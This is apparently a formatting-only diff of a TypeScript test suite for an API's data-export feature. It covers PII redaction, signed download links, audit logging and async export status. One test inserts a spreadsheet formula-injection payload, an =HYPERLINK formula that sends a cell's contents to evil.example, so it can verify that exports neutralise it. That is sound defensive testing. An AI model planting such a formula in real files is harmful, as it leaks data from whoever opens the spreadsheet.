@@ -67,7 +67,10 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
   const newTenant = () => t.createTenant({ configuration: { rate_limits: { multiplier: 100 } } });
   const db = () => t.deps.database.db;
   const exportOf = async (tenant: Tenant, query: string) => {
-    const res = await t.app.inject({ url: `/v1/tenants/${tenant.id}/requests/export${query}`, headers: { 'x-api-key': tenant.apiKey } });
+    const res = await t.app.inject({
+      url: `/v1/tenants/${tenant.id}/requests/export${query}`,
+      headers: { 'x-api-key': tenant.apiKey },
+    });
     const body: Body = res.json();
     return { status: res.statusCode, body, data: body.data, requestId: String(res.headers['x-request-id']) };
   };
@@ -82,9 +85,17 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
       const res = await exportOf(tenant, '?format=json&include_pii=true&include_audio=true');
       expect(res.status, JSON.stringify(res.body)).toBe(200);
       expect(res.body).toMatchObject({ success: true, request_id: res.requestId });
-      expect(Object.keys(res.data).sort()).toEqual(['download_url', 'expires_at', 'export_id', 'file_size_bytes', 'record_count']);
+      expect(Object.keys(res.data).sort()).toEqual([
+        'download_url',
+        'expires_at',
+        'export_id',
+        'file_size_bytes',
+        'record_count',
+      ]);
       expect(res.data.export_id).toMatch(/^exp_/);
-      expect(res.data.download_url).toMatch(new RegExp(`^${BASE}/v1/exports/${res.data.export_id}/download\\?expires=\\d+&signature=[0-9a-f]{64}$`));
+      expect(res.data.download_url).toMatch(
+        new RegExp(`^${BASE}/v1/exports/${res.data.export_id}/download\\?expires=\\d+&signature=[0-9a-f]{64}$`),
+      );
       expect(Math.abs(new Date(res.data.expires_at).getTime() - (Date.now() + 86_400_000))).toBeLessThan(60_000);
       expect(res.data.record_count).toBe(2);
 
@@ -93,38 +104,83 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
       expect(file.headers['content-type']).toMatch(/^application\/json/);
       expect(file.headers['content-disposition']).toBe(`attachment; filename="${res.data.export_id}.json"`);
       expect(file.rawPayload.length).toBe(res.data.file_size_bytes);
-      const details = await Promise.all([older, newer].map(async (id) => (await t.app.inject({ url: `/v1/tenants/${tenant.id}/requests/${id}`, headers: { 'x-api-key': tenant.apiKey } })).json().data));
+      const details = await Promise.all(
+        [older, newer].map(
+          async (id) =>
+            (
+              await t.app.inject({
+                url: `/v1/tenants/${tenant.id}/requests/${id}`,
+                headers: { 'x-api-key': tenant.apiKey },
+              })
+            ).json().data,
+        ),
+      );
       expect(file.json()).toEqual(details);
       // Kept in blob storage, which every process of a fleet reads; nothing is left in the local data dir.
-      expect((await t.deps.storage.get(`tenants/${tenant.id}/exports/${res.data.export_id}.json`))?.body.length).toBe(res.data.file_size_bytes);
+      expect((await t.deps.storage.get(`tenants/${tenant.id}/exports/${res.data.export_id}.json`))?.body.length).toBe(
+        res.data.file_size_bytes,
+      );
       expect(fs.readdirSync(path.join(t.dataDir, 'exports', tenant.id))).toEqual([]);
     });
 
     it('redacts names, phone numbers, e-mails and transcripts everywhere and drops recording links by default', async () => {
       const tenant = await newTenant();
-      await insertRequest(db(), tenant.id, { original_payload: { call_id: 'CAL1', caller_id: '+15551234567', caller_name: 'John Smith', recording_url: 'https://callrail.com/r.wav', custom_fields: { note: 'reach me at john.smith@example.com or +1 512 555 0199' } } });
+      await insertRequest(db(), tenant.id, {
+        original_payload: {
+          call_id: 'CAL1',
+          caller_id: '+15551234567',
+          caller_name: 'John Smith',
+          recording_url: 'https://callrail.com/r.wav',
+          custom_fields: { note: 'reach me at john.smith@example.com or +1 512 555 0199' },
+        },
+      });
       const res = await exportOf(tenant, '?format=json');
       const [record] = (await download(res.data.download_url)).json();
-      expect(record.original_payload).toEqual({ call_id: 'CAL1', caller_id: '[redacted]', caller_name: '[redacted]', custom_fields: { note: 'reach me at [redacted] or [redacted]' } });
+      expect(record.original_payload).toEqual({
+        call_id: 'CAL1',
+        caller_id: '[redacted]',
+        caller_name: '[redacted]',
+        custom_fields: { note: 'reach me at [redacted] or [redacted]' },
+      });
       expect(record.call_data).toEqual({ call_id: 'CAL123456789', caller_phone: '[redacted]', duration: 180 });
       expect(record.ai_analysis.transcript).toBe('[redacted]');
       expect(record.ai_analysis.intent).toBe('kitchen_remodel');
       const enriched = record.enriched_data;
-      expect(enriched.callrail_details).toMatchObject({ caller_name: '[redacted]', tracking_number: '[redacted]', campaign: 'Google Ads - Kitchen Remodel' });
+      expect(enriched.callrail_details).toMatchObject({
+        caller_name: '[redacted]',
+        tracking_number: '[redacted]',
+        campaign: 'Google Ads - Kitchen Remodel',
+      });
       expect(enriched.audio_analysis.transcript).toBe('[redacted]');
-      expect(enriched.audio_analysis.speaker_segments[0]).toEqual({ speaker: 'caller', text: '[redacted]', start_time: 0, end_time: 15.2 });
-      expect(enriched.ai_analysis.extracted_entities).toMatchObject({ contact_email: '[redacted]', project_type: 'kitchen_remodel' });
+      expect(enriched.audio_analysis.speaker_segments[0]).toEqual({
+        speaker: 'caller',
+        text: '[redacted]',
+        start_time: 0,
+        end_time: 15.2,
+      });
+      expect(enriched.ai_analysis.extracted_entities).toMatchObject({
+        contact_email: '[redacted]',
+        project_type: 'kitchen_remodel',
+      });
       const text = JSON.stringify(record);
-      for (const secret of ['John', 'Smith', '555', 'example.com', 'gs://', '.wav', 'remodeling my kitchen']) expect(text).not.toContain(secret);
+      for (const secret of ['John', 'Smith', '555', 'example.com', 'gs://', '.wav', 'remodeling my kitchen'])
+        expect(text).not.toContain(secret);
     });
 
     it('redacts a 200,000-character field in one pass, and /health answers meanwhile', async () => {
       const tenant = await newTenant();
       // Each was a worst case of the old e-mail pattern: a long run with no @, and a long domain with no top-level label.
-      const long = { dots: '.'.repeat(200_000) + '-.AA', local: 'a'.repeat(200_000), domain: `x@${'a.'.repeat(100_000)}1 reach me at jo@example.com` };
+      const long = {
+        dots: '.'.repeat(200_000) + '-.AA',
+        local: 'a'.repeat(200_000),
+        domain: `x@${'a.'.repeat(100_000)}1 reach me at jo@example.com`,
+      };
       await insertRequest(db(), tenant.id, { original_payload: { call_id: 'CAL8', custom_fields: long } });
       const started = performance.now();
-      const [res, health] = await Promise.all([exportOf(tenant, '?format=json'), t.app.inject({ method: 'GET', url: '/health' })]);
+      const [res, health] = await Promise.all([
+        exportOf(tenant, '?format=json'),
+        t.app.inject({ method: 'GET', url: '/health' }),
+      ]);
       expect(health.statusCode).toBe(200);
       const [record] = (await download(res.data.download_url)).json();
       expect(record.original_payload.custom_fields.domain.endsWith('reach me at [redacted]')).toBe(true);
@@ -139,7 +195,12 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
         created_at: '2025-09-13T14:30:00.000Z',
         original_payload: { call_id: 'CAL9', caller_name: 'Smith, John "Jack"', caller_id: '+15551234567' },
         enriched_data: {},
-        ai_analysis: { transcript: 'line one\nline two', intent: 'kitchen_remodel', lead_score: 85, project_details: { type: 'kitchen' } },
+        ai_analysis: {
+          transcript: 'line one\nline two',
+          intent: 'kitchen_remodel',
+          lead_score: 85,
+          project_details: { type: 'kitchen' },
+        },
         crm: [
           { crm_type: 'hubspot', status: 'success', created_at: '2025-09-13T14:31:00.000Z' },
           { crm_type: 'salesforce', status: 'failed', created_at: '2025-09-13T14:32:00.000Z' },
@@ -174,13 +235,22 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
 
       const redacted = parseCsv((await download((await exportOf(tenant, '?format=csv')).data.download_url)).body);
       const columns = Object.fromEntries(redacted[0]!.map((h, i) => [h, redacted[1]![i]]));
-      expect([columns.caller_name, columns.caller_phone, columns.transcript, columns.recording_url]).toEqual(['[redacted]', '[redacted]', '[redacted]', '']);
+      expect([columns.caller_name, columns.caller_phone, columns.transcript, columns.recording_url]).toEqual([
+        '[redacted]',
+        '[redacted]',
+        '[redacted]',
+        '',
+      ]);
     });
 
     it('writes a cell a spreadsheet would run as a formula as text', async () => {
       const tenant = await newTenant();
       const hyperlink = '=HYPERLINK("https://evil.example/?d="&C2,"Click for invoice")';
-      await insertRequest(db(), tenant.id, { original_payload: { call_id: 'CAL7', caller_name: hyperlink, caller_id: '=1+2' }, call_data: { call_id: 'CAL7' }, enriched_data: {} });
+      await insertRequest(db(), tenant.id, {
+        original_payload: { call_id: 'CAL7', caller_name: hyperlink, caller_id: '=1+2' },
+        call_data: { call_id: 'CAL7' },
+        enriched_data: {},
+      });
       const file = await download((await exportOf(tenant, '?format=csv&include_pii=true')).data.download_url);
       const [header, row] = parseCsv(file.body);
       const columns = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
@@ -201,7 +271,15 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
       const values = (sheet.getRow(2).values as unknown[]).slice(1);
       expect(header).toEqual([...CSV_COLUMNS]);
       const row = Object.fromEntries(header.map((h, i) => [h, values[i]]));
-      expect(row).toMatchObject({ request_id: id, status: 'completed', processing_time_ms: 225000, lead_score: 85, caller_name: '[redacted]', recording_url: 'gs://bucket/audio/CAL123456789.wav', crm_status: 'hubspot:success' });
+      expect(row).toMatchObject({
+        request_id: id,
+        status: 'completed',
+        processing_time_ms: 225000,
+        lead_score: 85,
+        caller_name: '[redacted]',
+        recording_url: 'gs://bucket/audio/CAL123456789.wav',
+        crm_status: 'hubspot:success',
+      });
     });
 
     it('exports only the requests created in the date range', async () => {
@@ -217,9 +295,17 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
     it('records who exported what in the audit log', async () => {
       const tenant = await newTenant();
       const res = await exportOf(tenant, '?format=csv&include_pii=true');
-      const { entries } = await t.deps.services.audit.list(tenant.id, { limit: 10, offset: 0, action: 'ingestion_requests.exported' });
+      const { entries } = await t.deps.services.audit.list(tenant.id, {
+        limit: 10,
+        offset: 0,
+        action: 'ingestion_requests.exported',
+      });
       expect(entries).toHaveLength(1);
-      expect(entries[0]).toMatchObject({ actor: { kind: 'tenant-key' }, target: { type: 'export', id: res.data.export_id }, after: { format: 'csv', include_pii: true, include_audio: false } });
+      expect(entries[0]).toMatchObject({
+        actor: { kind: 'tenant-key' },
+        target: { type: 'export', id: res.data.export_id },
+        after: { format: 'csv', include_pii: true, include_audio: false },
+      });
     });
 
     it.each([
@@ -245,8 +331,18 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
     const fetchLink = (url: URL) => t.app.inject({ url: `${url.pathname}${url.search}` });
 
     it.each([
-      ['a changed signature', (u: URL) => u.searchParams.set('signature', `${u.searchParams.get('signature')!.slice(0, -1)}${u.searchParams.get('signature')!.endsWith('0') ? '1' : '0'}`)],
-      ['a later expiry', (u: URL) => u.searchParams.set('expires', String(Number(u.searchParams.get('expires')) + 3600))],
+      [
+        'a changed signature',
+        (u: URL) =>
+          u.searchParams.set(
+            'signature',
+            `${u.searchParams.get('signature')!.slice(0, -1)}${u.searchParams.get('signature')!.endsWith('0') ? '1' : '0'}`,
+          ),
+      ],
+      [
+        'a later expiry',
+        (u: URL) => u.searchParams.set('expires', String(Number(u.searchParams.get('expires')) + 3600)),
+      ],
       ['no signature', (u: URL) => u.searchParams.delete('signature')],
       ['not hex', (u: URL) => u.searchParams.set('signature', 'z'.repeat(64))],
     ])('answers 403 FORBIDDEN in spec A’s envelope for %s', async (_label, tamper) => {
@@ -254,7 +350,11 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
       tamper(url);
       const res = await fetchLink(url);
       expect(res.statusCode).toBe(403);
-      expect(res.json()).toMatchObject({ success: false, error: { code: 'FORBIDDEN' }, request_id: res.headers['x-request-id'] });
+      expect(res.json()).toMatchObject({
+        success: false,
+        error: { code: 'FORBIDDEN' },
+        request_id: res.headers['x-request-id'],
+      });
     });
 
     it('answers 403 for one export’s signature on another export', async () => {
@@ -286,7 +386,11 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
       () => t,
       [
         { method: 'GET', path: '/v1/tenants/:tenant/requests/export?format=csv' },
-        { method: 'GET', path: '/v1/tenants/:tenant/exports/:object', createObject: (app, owner) => insertExport(app.deps.database.db, owner.id) },
+        {
+          method: 'GET',
+          path: '/v1/tenants/:tenant/exports/:object',
+          createObject: (app, owner) => insertExport(app.deps.database.db, owner.id),
+        },
       ],
     );
   });
@@ -304,35 +408,57 @@ describe.each(dialects)('spec A slow exports on $label', ({ dialect, skip }) => 
     if (!skip) await t.close();
   });
 
-  it.skipIf(skip)('answers 202 with a status URL after the wait, and the status route hands out the link once the file exists', async () => {
-    const tenant = await t.createTenant();
-    await insertRequest(t.deps.database.db, tenant.id);
-    const headers = { 'x-api-key': tenant.apiKey };
-    const pending = t.app.inject({ url: `/v1/tenants/${tenant.id}/requests/export?format=csv`, headers });
-    await sleep(300);
-    clock.shift += 11_000;
-    const res = await pending;
-    expect(res.statusCode, res.body).toBe(202);
-    const data = res.json().data;
-    expect(data).toEqual({ export_id: expect.stringMatching(/^exp_/), status: 'processing', status_url: `${BASE}/v1/tenants/${tenant.id}/exports/${data.export_id}`, expires_at: expect.any(String) });
+  it.skipIf(skip)(
+    'answers 202 with a status URL after the wait, and the status route hands out the link once the file exists',
+    async () => {
+      const tenant = await t.createTenant();
+      await insertRequest(t.deps.database.db, tenant.id);
+      const headers = { 'x-api-key': tenant.apiKey };
+      const pending = t.app.inject({ url: `/v1/tenants/${tenant.id}/requests/export?format=csv`, headers });
+      await sleep(300);
+      clock.shift += 11_000;
+      const res = await pending;
+      expect(res.statusCode, res.body).toBe(202);
+      const data = res.json().data;
+      expect(data).toEqual({
+        export_id: expect.stringMatching(/^exp_/),
+        status: 'processing',
+        status_url: `${BASE}/v1/tenants/${tenant.id}/exports/${data.export_id}`,
+        expires_at: expect.any(String),
+      });
 
-    const status = async () => (await t.app.inject({ url: new URL(data.status_url as string).pathname, headers })).json().data;
-    expect(await status()).toMatchObject({ export_id: data.export_id, status: 'processing', format: 'csv', download_url: null, record_count: null });
+      const status = async () =>
+        (await t.app.inject({ url: new URL(data.status_url as string).pathname, headers })).json().data;
+      expect(await status()).toMatchObject({
+        export_id: data.export_id,
+        status: 'processing',
+        format: 'csv',
+        download_url: null,
+        record_count: null,
+      });
 
-    await t.startWorkers();
-    const done = await waitFor(async () => {
-      const s = await status();
-      return s.status === 'completed' ? s : undefined;
-    });
-    expect(done).toMatchObject({ record_count: 1, file_size_bytes: expect.any(Number), completed_at: expect.any(String) });
-    const file = await t.app.inject({ url: (done.download_url as string).slice(BASE.length) });
-    expect(file.statusCode).toBe(200);
-    expect(parseCsv(file.body)).toHaveLength(2);
-  });
+      await t.startWorkers();
+      const done = await waitFor(async () => {
+        const s = await status();
+        return s.status === 'completed' ? s : undefined;
+      });
+      expect(done).toMatchObject({
+        record_count: 1,
+        file_size_bytes: expect.any(Number),
+        completed_at: expect.any(String),
+      });
+      const file = await t.app.inject({ url: (done.download_url as string).slice(BASE.length) });
+      expect(file.statusCode).toBe(200);
+      expect(parseCsv(file.body)).toHaveLength(2);
+    },
+  );
 
   it.skipIf(skip)('answers 404 for an unknown export', async () => {
     const tenant = await t.createTenant();
-    const res = await t.app.inject({ url: `/v1/tenants/${tenant.id}/exports/exp_missing`, headers: { 'x-api-key': tenant.apiKey } });
+    const res = await t.app.inject({
+      url: `/v1/tenants/${tenant.id}/exports/exp_missing`,
+      headers: { 'x-api-key': tenant.apiKey },
+    });
     expect([res.statusCode, res.json().error.code]).toEqual([404, 'NOT_FOUND']);
   });
 });
